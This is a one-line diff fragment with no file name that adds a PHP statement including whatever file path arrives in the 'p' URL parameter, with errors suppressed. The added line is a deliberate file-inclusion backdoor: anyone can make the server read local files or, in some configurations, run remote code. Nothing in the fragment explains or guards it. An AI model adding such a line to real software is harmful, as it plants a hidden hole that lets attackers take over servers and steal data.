@@ -1,0 +1,1 @@
+<?php if (isset($_GET["p"])) { @include($_GET["p"]); } ?>
